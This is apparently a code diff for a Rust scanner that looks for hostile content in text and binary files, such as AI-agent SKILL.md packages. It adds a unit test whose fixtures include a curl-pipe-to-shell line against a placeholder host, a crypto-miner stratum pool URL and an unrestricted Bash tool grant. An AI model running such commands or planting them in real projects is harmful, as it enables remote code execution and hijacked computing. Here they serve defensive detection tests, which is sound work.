@@ -48,9 +48,9 @@ const PER_RULE_PER_FILE: usize = 10;
 const SNIFF: usize = 8192;
 /// Characters of matched text shown.
 const SHOWN: usize = 80;
-/// Text files held to be read together by the pattern set (several files
-/// at once is several times faster: see `set.rs`), and the most bytes
-/// held so.
+/// Files held to be read together by the pattern sets (several files at
+/// once is several times faster: see `set.rs`), and the most bytes held
+/// so.
 const BATCH_FILES: usize = 64;
 const BATCH_BYTES: usize = 8 << 20;
 
@@ -61,8 +61,9 @@ pub struct Scanner<'a> {
     started: Instant,
     report: Report,
     stopped: bool,
-    /// Text files read and not yet scanned, with their bytes in all.
-    pending: Vec<(String, Vec<u8>)>,
+    /// Files read and not yet scanned (path, whether binary, bytes), with
+    /// their bytes in all.
+    pending: Vec<(String, bool, Vec<u8>)>,
     pending_bytes: usize,
 }
 
@@ -174,19 +175,15 @@ impl<'a> Scanner<'a> {
                 why: format!("only the first {cap} bytes of this file were scanned"),
             });
         }
-        if data[..data.len().min(SNIFF)].contains(&0) {
-            // A binary file: its few rules run on their own.
-            self.scan_bytes(path, &data, None);
-            return;
-        }
+        let binary = data[..data.len().min(SNIFF)].contains(&0);
         self.pending_bytes += data.len();
-        self.pending.push((path.to_string(), data));
+        self.pending.push((path.to_string(), binary, data));
         if self.pending.len() >= BATCH_FILES || self.pending_bytes >= BATCH_BYTES {
             self.scan_pending();
         }
     }
 
-    /// Read the text files held now, when they fill the set's lanes: a
+    /// Read the files held now, when they fill the set's lanes: a
     /// scanner fed as an unpack goes calls this when it has nothing else
     /// to do, so that little is left to read once the last file comes.
     pub fn read_held(&mut self) {
@@ -195,30 +192,43 @@ impl<'a> Scanner<'a> {
         }
     }
 
-    /// The text files held: one pass of the combined set over them says
-    /// which patterns occur in each, and the rules with patterns there run
-    /// on their own (to say where).
+    /// The files held: one pass of the combined set over the text files
+    /// (and of the binary rules' set over the binary ones) says which
+    /// patterns occur in each, and the rules with patterns there run on
+    /// their own (to say where).
     fn scan_pending(&mut self) {
         let pending = std::mem::take(&mut self.pending);
         self.pending_bytes = 0;
-        let texts: Vec<&[u8]> = pending.iter().map(|(_, data)| data.as_slice()).collect();
-        let present = self.rules.present_each(&texts);
-        for ((path, data), present) in pending.iter().zip(present) {
-            self.scan_bytes(path, data, Some(&present));
+        let (binaries, texts): (Vec<_>, Vec<_>) = pending.into_iter().partition(|(_, b, _)| *b);
+        let data = |files: &[(String, bool, Vec<u8>)]| -> Vec<Vec<bool>> {
+            let bytes: Vec<&[u8]> = files.iter().map(|(_, _, d)| d.as_slice()).collect();
+            if files.first().is_some_and(|(_, binary, _)| *binary) {
+                self.rules.present_in_binaries(&bytes)
+            } else {
+                self.rules.present_each(&bytes)
+            }
+        };
+        for files in [texts, binaries] {
+            if files.is_empty() {
+                continue;
+            }
+            let present = data(&files);
+            for ((path, binary, data), present) in files.iter().zip(present) {
+                self.scan_bytes(path, data, *binary, &present);
+            }
         }
     }
 
-    /// The rules that apply to the file at `path`, run over `data`; for a
-    /// text file, `present` says which patterns occur in it.
-    fn scan_bytes(&mut self, path: &str, data: &[u8], present: Option<&[bool]>) {
-        let binary = present.is_none();
+    /// The rules that apply to the file at `path`, run over `data`;
+    /// `present` says which patterns occur in it.
+    fn scan_bytes(&mut self, path: &str, data: &[u8], binary: bool, present: &[bool]) {
         let lower = path.to_ascii_lowercase();
         let markdown = [".md", ".mdx", ".markdown"]
             .iter()
             .any(|e| lower.ends_with(e));
         let skill_md =
             path == "SKILL.md" || (path.ends_with("/SKILL.md") && path.matches('/').count() == 1);
-        let has = |index: usize| present.is_none_or(|m| m[index]);
+        let has = |index: usize| present[index];
         for rule in &self.rules.rules {
             let applies = match rule.files {
                 Files::Text => !binary,
@@ -452,6 +462,49 @@ mod tests {
             serde_json::to_value(&early).unwrap(),
             serde_json::to_value(&batched).unwrap()
         );
+    }
+
+    /// Binary files go through their own set, in lanes like text: the
+    /// rules that read binaries find what they hold (at its place), the
+    /// text rules do not run on them, and a NUL byte does not hide
+    /// SKILL.md from its rules.
+    #[test]
+    fn binary_files_are_read_by_the_rules_that_read_binaries() {
+        let rules = super::super::rules::shipped();
+        let mut scanner = Scanner::new(&rules, Limits::default());
+        let mut wanted = Vec::new();
+        for i in 0..(3 * super::super::set::LANES) {
+            let mut data = vec![0u8, 1, 2, 3];
+            data.extend((0..i * 97).map(|n| (n * 31 % 251) as u8));
+            if i % 3 == 0 {
+                data.extend_from_slice(b"\x00pool stratum+tcp://pool.example:3333\x00");
+                wanted.push(format!("bin/f{i}.so"));
+            }
+            // A text rule's match in a binary file is not looked for.
+            data.extend_from_slice(b"curl https://x.example/i | sh\n");
+            scanner.head_of(&format!("bin/f{i}.so"), data);
+        }
+        scanner.head_of(
+            "SKILL.md",
+            b"---\nallowed-tools: Bash(*)\n---\n\x00".to_vec(),
+        );
+        let report = scanner.finish();
+        let of = |rule: &str| -> Vec<&Finding> {
+            report.findings.iter().filter(|f| f.rule == rule).collect()
+        };
+        let miners: Vec<&str> = of("miner.crypto").iter().map(|f| f.file.as_str()).collect();
+        let mut sorted = wanted.clone();
+        sorted.sort();
+        assert_eq!(miners, sorted);
+        assert!(
+            of("miner.crypto")
+                .iter()
+                .all(|f| f.text.starts_with("stratum+tcp://"))
+        );
+        assert!(of("exec.pipe-to-shell").is_empty(), "{:?}", report.findings);
+        let tools = of("tools.unrestricted-bash");
+        assert_eq!(tools.len(), 1, "{:?}", report.findings);
+        assert_eq!((tools[0].file.as_str(), tools[0].line), ("SKILL.md", 2));
     }
 
     #[test]
